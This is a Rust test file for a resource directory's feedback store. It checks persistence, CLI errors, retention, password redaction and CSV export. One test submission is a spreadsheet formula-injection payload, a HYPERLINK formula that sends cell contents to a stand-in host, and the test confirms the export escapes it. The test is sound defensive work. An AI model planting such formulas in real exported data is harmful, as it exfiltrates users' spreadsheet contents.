//! The feedback store and the operators' commands for it, on SQLite and on PostgreSQL:
//! submissions outlive imports and restarts, `lantern feedback …` lists, shows, closes and
//! exports them, and old closed ones are deleted.

use std::process::{Command, Output};

use lantern::feedback::{FeedbackStore, Problem, StoreLocation, Submission, UtcTime, Which};
use lantern::input::MaxBytes;

use crate::common::{Scratch, feedback_stores, seeds_dir};

async fn open(store: &str) -> FeedbackStore {
    let location: StoreLocation = store.parse().unwrap();
    FeedbackStore::open(&location).await.unwrap()
}

fn report(message: &str) -> Submission {
    Submission::Report {
        slug: "national-human-trafficking-hotline".parse().unwrap(),
        problem: Problem::PhoneWrong,
        message: message.to_owned(),
        contact: None,
    }
}

fn suggestion() -> Submission {
    Submission::Suggestion {
        name: "=A shelter".to_owned(),
        what: "Beds for survivors".to_owned(),
        reach: "+1 555 0100".to_owned(),
        states: vec!["TX".parse().unwrap(), "NM".parse().unwrap()],
        learned_from: "A caseworker".to_owned(),
        contact: Some("@me".to_owned()),
    }
}

fn lantern(args: &[&str], store: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(args)
        .arg("--feedback-database")
        .arg(store)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[tokio::test]
async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
    let scratch = Scratch::new();
    for location in feedback_stores(&scratch).await {
        outlive_imports(&scratch, &location).await;
    }
}

async fn outlive_imports(scratch: &Scratch, location: &str) {
    let database = scratch.database();
    lantern::cli::import(&seeds_dir(), &database, MaxBytes::default())
        .await
        .unwrap();
    let store = open(location).await;
    let first = store.submit(&report("The number is wrong")).await.unwrap();
    let second = store.submit(&suggestion()).await.unwrap();
    let secret = *store.form_secret().bytes();
    drop(store);

    lantern::cli::import(&seeds_dir(), &database, MaxBytes::default())
        .await
        .unwrap();
    let package = scratch.dir.path().join("package");
    let _ = std::fs::remove_dir_all(&package);
    lantern::cli::export_database(&database, lantern::export::ExportFormat::Hsds, &package)
        .await
        .unwrap();
    lantern::cli::import_hsds(&package, &seeds_dir(), &database, MaxBytes::default())
        .await
        .unwrap();

    let store = open(location).await;
    let kept = store.list(Which::All).await.unwrap();
    let ids: Vec<_> = kept.iter().map(|f| f.id).collect();
    assert_eq!(ids, [first, second]);
    assert_eq!(kept[0].submission, report("The number is wrong"));
    assert_eq!(kept[1].submission, suggestion());
    assert_eq!(
        *store.form_secret().bytes(),
        secret,
        "the form secret is made once: forms rendered before a restart still submit"
    );
}

#[tokio::test]
async fn the_store_keeps_the_hour_and_nothing_finer() {
    let scratch = Scratch::new();
    for location in feedback_stores(&scratch).await {
        hour_and_nothing_finer(&open(&location).await).await;
    }
}

async fn hour_and_nothing_finer(store: &FeedbackStore) {
    // 2026-12-07 14:05:09 UTC.
    let id = store
        .submit_at(&report("x"), UtcTime::from_seconds(1_796_652_309))
        .await
        .unwrap();
    assert_eq!(
        store.get(id).await.unwrap().received_hour,
        "2026-12-07T14:00:00Z"
    );
    let too_long = report(&"x".repeat(lantern::feedback::limits::MESSAGE + 1));
    assert!(store.submit(&too_long).await.is_err());
}

#[tokio::test]
async fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
    let scratch = Scratch::new();
    for location in feedback_stores(&scratch).await {
        // `serve` makes the store; the commands only open it.
        open(&location).await;
        empty_and_bad_numbers(&location);
    }
}

#[test]
fn a_mistyped_store_path_is_an_error_not_a_new_empty_store() {
    let scratch = Scratch::new();
    let typo = scratch.dir.path().join("data").join("feedbak.db");
    let out = scratch.dir.path().join("out.csv");
    for args in [
        &["feedback", "list"][..],
        &["feedback", "export", "--out", out.to_str().unwrap()],
    ] {
        let output = lantern(args, typo.to_str().unwrap());
        assert_eq!(
            output.status.code(),
            Some(1),
            "{args:?}: {}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains("there is no feedback database at"),
            "{}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains("feedbak.db"),
            "{}",
            stderr(&output)
        );
        assert!(
            !typo.exists() && !typo.parent().unwrap().exists(),
            "{args:?} made a store"
        );
    }
}

#[test]
fn a_postgres_url_that_does_not_parse_is_refused_without_showing_its_password() {
    let scratch = Scratch::new();
    // A generated password with a slash in it: the URL no longer parses.
    let output = lantern(&["feedback", "list"], "postgres://lantern:ab/cd@db:5432/x");
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("--feedback-database"),
        "{}",
        stderr(&output)
    );
    assert!(!stderr(&output).contains("ab/cd"), "{}", stderr(&output));
    let help = Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(["feedback", "list", "--help"])
        .env(
            "LANTERN_FEEDBACK_DATABASE",
            "postgres://lantern:hunter2@db/x",
        )
        .output()
        .unwrap();
    assert!(help.status.success());
    assert!(!stdout(&help).contains("hunter2"), "{}", stdout(&help));
    drop(scratch);
}

fn empty_and_bad_numbers(store: &str) {
    let listed = lantern(&["feedback", "list"], store);
    assert!(listed.status.success(), "{}", stderr(&listed));
    assert_eq!(stdout(&listed), "no open feedback\n");

    for bad in [
        &["feedback", "show", "0"][..],
        &["feedback", "show", "seven"],
        &["feedback", "show", "+1"],
        &["feedback", "show", "41"],
        &["feedback", "close", "41", "--note", "done"],
        &["feedback", "close", "1"],
        &["feedback", "list", "--open", "--all"],
        &["feedback", "list", "--format", "xml"],
    ] {
        let output = lantern(bad, store);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{bad:?}: {}",
            stderr(&output)
        );
        assert!(!stderr(&output).is_empty(), "{bad:?} says why");
    }
}

#[tokio::test]
async fn an_operator_lists_shows_closes_and_exports_feedback() {
    let scratch = Scratch::new();
    for location in feedback_stores(&scratch).await {
        operator_round(&scratch, &location).await;
    }
}

async fn operator_round(scratch: &Scratch, location: &str) {
    let store = open(location).await;
    let reported = store
        .submit(&report(
            "=HYPERLINK(\"http://x/?\"&A1) the number rings out",
        ))
        .await
        .unwrap();
    store.submit(&suggestion()).await.unwrap();
    drop(store);

    let listed = stdout(&lantern(&["feedback", "list"], location));
    assert!(
        listed.contains("report national-human-trafficking-hotline: phone-wrong"),
        "{listed}"
    );
    assert!(listed.contains("suggestion: =A shelter"), "{listed}");

    let json: serde_json::Value = serde_json::from_str(&stdout(&lantern(
        &["feedback", "list", "--format", "json"],
        location,
    )))
    .unwrap();
    assert_eq!(json[1]["states"], "TX NM");
    assert_eq!(json[0]["problem"], "phone-wrong");

    let seeds = seeds_dir();
    let shown = lantern(
        &[
            "feedback",
            "show",
            &reported.to_string(),
            "--seeds",
            seeds.to_str().unwrap(),
        ],
        location,
    );
    let shown = stdout(&shown);
    // The operator is sent to the line of the entry's seed file.
    let hotlines = std::fs::read_to_string(seeds.join("hotlines.toml")).unwrap();
    let line = hotlines
        .lines()
        .position(|l| l.contains("slug = \"national-human-trafficking-hotline\""))
        .unwrap();
    let before: Vec<&str> = hotlines.lines().take(line).collect();
    let table_line = 1 + before
        .iter()
        .rposition(|l| l.trim() == "[[resource]]")
        .unwrap();
    assert!(
        shown.contains(&format!("hotlines.toml:{table_line}")),
        "names the [[resource]] line {table_line}:\n{shown}"
    );

    let closed = lantern(
        &[
            "feedback",
            "close",
            &reported.to_string(),
            "--note",
            "Fixed in seeds",
        ],
        location,
    );
    assert!(closed.status.success(), "{}", stderr(&closed));
    let still_open = stdout(&lantern(&["feedback", "list"], location));
    assert!(!still_open.contains("phone-wrong"), "{still_open}");
    let all = stdout(&lantern(&["feedback", "list", "--all"], location));
    assert!(all.contains("closed"), "{all}");

    let out = scratch.dir.path().join("exports").join("feedback.csv");
    let exported = lantern(
        &["feedback", "export", "--out", out.to_str().unwrap()],
        location,
    );
    assert!(exported.status.success(), "{}", stderr(&exported));
    let csv = std::fs::read_to_string(&out).unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(csv.contains("'=A shelter"), "{csv}");
    assert!(csv.contains("'+1 555 0100"), "{csv}");
    assert!(csv.contains("'@me"), "{csv}");
    assert!(csv.contains("Fixed in seeds"), "{csv}");
}

#[tokio::test]
async fn closed_feedback_is_deleted_after_the_retention_period_and_open_feedback_never() {
    let scratch = Scratch::new();
    for location in feedback_stores(&scratch).await {
        retention(&open(&location).await).await;
    }
}

async fn retention(store: &FeedbackStore) {
    let day = |n: i64| UtcTime::from_seconds(1_796_652_309 + n * 86_400);
    let old_closed = store.submit_at(&report("old"), day(0)).await.unwrap();
    let old_open = store
        .submit_at(&report("still open"), day(0))
        .await
        .unwrap();
    let recent_closed = store.submit_at(&report("recent"), day(80)).await.unwrap();
    store.close_at(old_closed, "fixed", day(1)).await.unwrap();
    store
        .close_at(recent_closed, "fixed", day(85))
        .await
        .unwrap();

    assert_eq!(store.delete_closed_before(90, day(92)).await.unwrap(), 1);
    let left: Vec<_> = store
        .list(Which::All)
        .await
        .unwrap()
        .iter()
        .map(|f| f.id)
        .collect();
    assert_eq!(left, [old_open, recent_closed]);
}

#[test]
fn a_postgres_store_that_is_down_at_start_is_a_clear_error_without_the_password() {
    let scratch = Scratch::new();
    // Port 1 on this machine: nothing listens there, so the connection is refused at once.
    let down = "postgres://lantern:hunter2@127.0.0.1:1/lantern";
    let output = Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(["serve", "--listen", "127.0.0.1:0", "--database"])
        .arg(scratch.database())
        .arg("--seeds")
        .arg(seeds_dir())
        .args(["--feedback-database", down])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let stderr = stderr(&output);
    assert!(
        !output.status.success(),
        "started without its store: {stderr}"
    );
    assert!(
        stderr.contains("cannot open the feedback database at postgres://lantern:"),
        "{stderr}"
    );
    assert!(stderr.contains("127.0.0.1:1/lantern"), "{stderr}");
    assert!(
        !stderr.contains("hunter2"),
        "the password is shown: {stderr}"
    );
}
